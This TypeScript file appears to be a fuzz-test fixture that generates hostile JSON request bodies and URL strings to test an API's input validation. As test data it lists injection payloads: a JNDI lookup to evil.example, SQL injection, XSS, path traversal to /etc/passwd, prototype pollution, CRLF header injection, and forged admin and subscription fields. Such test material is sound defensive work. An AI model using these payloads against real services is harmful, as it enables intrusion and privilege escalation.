/**
 * Malformed and hostile JSON request bodies for the fuzz suite, as raw text (so they can carry
 * `__proto__` keys, duplicate keys and lone surrogates). Deterministic: the same seed gives the
 * same bodies, so a failure can be replayed.
 */

/** What a field must be; each kind lists values that are never valid for it. */
export type FieldKind = 'id' | 'key' | 'boolean' | 'email' | 'choice' | 'url';

const HUGE = 'x'.repeat(20_000);
const str = (value: string): string => JSON.stringify(value);

/** Wrong types for any field (null is left out: several ids are nullable and mean "none"). */
const WRONG_TYPES = [
  '0',
  '-1',
  '-0.5',
  '1.5',
  '1e308',
  '-1e308',
  '9007199254740993',
  '[]',
  '[1,2,3]',
  '["price_v8_oneMonthV8_eur"]',
  '{}',
  '{"$gt":""}',
  '{"$ne":null}',
  '{"__proto__":{"polluted":"yes"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
];

/** Strings that name nothing real and are not valid anywhere. */
const HOSTILE_STRINGS = [
  HUGE,
  '😀'.repeat(2_000),
  'price_\u0000null',
  '\u202egnp.exe',
  '\ud800\udc00\ud800',
  'ｐｒｉｃｅ',
  '../../../../etc/passwd',
  '..%2F..%2Fadmin',
  '<script>alert(1)</script>',
  "' OR '1'='1' --",
  '{{7*7}}${7*7}',
  '${jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  'undefined',
  'NaN',
  'price_v8_oneMonthV8_eur;DROP',
  '\r\nSet-Cookie: a=b',
  '%00',
  'a'.repeat(300),
].map(str);

const NOT_BOOLEAN = ['"true"', '"false"', '""', '1', '0', 'null', ...HOSTILE_STRINGS.slice(0, 6)];
const NOT_EMAIL = [
  '"a"',
  '"a@"',
  '"@example.com"',
  '"a b@example.com"',
  '"a@b@example.com"',
  '"<script>@example.com"',
  '"😀"',
  '"mailto:a@example.com"',
  '"a@example.com\\u0000"',
];
const NOT_URL = [
  '"javascript:alert(1)"',
  '"//evil.example"',
  '"https://evil.example/x"',
  '"data:,x"',
];

/**
 * A database key chosen by the caller (an experiment, a visitor): 'undefined' and 'NaN' are
 * plain words there, a valid key; the prototype's names are not.
 */
const NOT_KEY = HOSTILE_STRINGS.filter((raw) => !['"undefined"', '"NaN"'].includes(raw));

export const HOSTILE_VALUES: Record<FieldKind, readonly string[]> = {
  id: [...WRONG_TYPES, ...HOSTILE_STRINGS],
  key: [...WRONG_TYPES, ...NOT_KEY, '"prototype"'],
  boolean: [...WRONG_TYPES, ...NOT_BOOLEAN],
  email: [...WRONG_TYPES, ...NOT_EMAIL, ...HOSTILE_STRINGS],
  choice: [
    ...WRONG_TYPES,
    'null',
    '"2"',
    '"forever"',
    '4',
    '99',
    '0.99',
    '2.5',
    ...HOSTILE_STRINGS,
  ],
  url: [...WRONG_TYPES, ...NOT_URL, ...HOSTILE_STRINGS],
};

/** Fields nobody may set through the API, added to bodies that are already invalid. */
export const EXTRA_FIELDS = [
  '"__proto__":{"polluted":"yes","isAdmin":true}',
  '"constructor":{"prototype":{"polluted":"yes"}}',
  '"prototype":{"polluted":"yes"}',
  '"uid":"someone-else"',
  '"isAdmin":true',
  '"subscription":{"status":"active","id":"sub_free"}',
  '"amount":1',
  '"unit_amount":-100',
  '"discountPercentage":100',
  `"padding":${str('p'.repeat(50_000))}`,
  '"nested":' + '{"a":'.repeat(200) + '1' + '}'.repeat(200),
  `"${'k'.repeat(1_000)}":1`,
  '"emoji😀":"✓"',
];

/** Whole bodies that are not an object at all, or an object of the wrong sort. */
export const HOSTILE_SHAPES = [
  'null',
  'true',
  '0',
  '-1.5',
  '"a string"',
  '[]',
  '[{}]',
  '[null]',
  '{"__proto__":null}',
  '{"": ""}',
  '{"a":' + '['.repeat(500) + ']'.repeat(500) + '}',
  '{"dup":1,"dup":2}',
];

/** A small seeded PRNG (mulberry32). */
function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const pick = <T>(next: () => number, items: readonly T[]): T => {
  const item = items[Math.floor(next() * items.length)];
  if (item === undefined) throw new Error('pick from an empty list');
  return item;
};

const objectText = (entries: readonly string[]): string => `{${entries.join(',')}}`;
const entry = (name: string, raw: string): string => `${str(name)}:${raw}`;

/**
 * At least `count` bodies for a route whose valid body is `base`: each one breaks at least one
 * field of `fields` (or, without fields, is a hostile shape or carries extra fields), some add
 * fields nobody may set.
 */
export function hostileBodies(
  base: Record<string, unknown>,
  fields: Record<string, FieldKind>,
  options: { count?: number; seed?: number; emptyObjectValid?: boolean } = {},
): string[] {
  const { count = 200, seed = 1, emptyObjectValid = false } = options;
  const next = random(seed);
  const baseEntries = (except: readonly string[]) =>
    Object.entries(base)
      .filter(([name]) => !except.includes(name))
      .map(([name, value]) => entry(name, JSON.stringify(value)));
  const names = Object.keys(fields);
  // Where {} is a valid body, an object with only unknown keys is one too: keep the non-objects.
  const bodies: string[] = HOSTILE_SHAPES.filter(
    (shape) => !emptyObjectValid || !shape.startsWith('{'),
  );
  for (const name of names) {
    for (const raw of HOSTILE_VALUES[fields[name] ?? 'id']) {
      bodies.push(objectText([...baseEntries([name]), entry(name, raw)]));
    }
    // The valid value first, then a hostile duplicate: JSON.parse keeps the last one.
    bodies.push(objectText([...baseEntries([]), entry(name, '{"$gt":""}')]));
  }
  while (bodies.length < count) {
    const extras = Array.from({ length: 1 + Math.floor(next() * 3) }, () =>
      pick(next, EXTRA_FIELDS),
    );
    if (names.length === 0) {
      bodies.push(objectText([...baseEntries([]), ...extras]));
      continue;
    }
    const broken = [
      ...new Set(Array.from({ length: 1 + Math.floor(next() * 3) }, () => pick(next, names))),
    ];
    const hostile = broken.map((name) =>
      entry(name, pick(next, HOSTILE_VALUES[fields[name] ?? 'id'])),
    );
    bodies.push(objectText([...extras, ...baseEntries(broken), ...hostile]));
  }
  return bodies;
}

/** Hostile values for a path parameter or query value (URL-encoded by the caller). */
export function hostileStrings(count = 200, seed = 2): string[] {
  const next = random(seed);
  // Kept under 1,000 characters: longer URLs end at the HTTP server or the CDN (431/414).
  const base = [
    ...HOSTILE_STRINGS.map((raw) => (JSON.parse(raw) as string).slice(0, 300)),
    '',
    ' ',
    '.',
    '..',
    '%',
    '%2e%2e%2f',
    '\u0000',
    'sub_' + '9'.repeat(500),
    '-1',
    '1.5',
    'null',
    '[object Object]',
  ];
  // A URL cannot carry a lone surrogate (encodeURIComponent throws), so those stay out.
  const out = base.filter((value) => value.isWellFormed());
  while (out.length < count) {
    const parts = Array.from({ length: 2 }, () => pick(next, base).slice(0, 200));
    const value = parts.join(pick(next, ['/', '?', '#', '&', '=', '\\', '']));
    if (value.isWellFormed()) out.push(value);
  }
  return out;
}
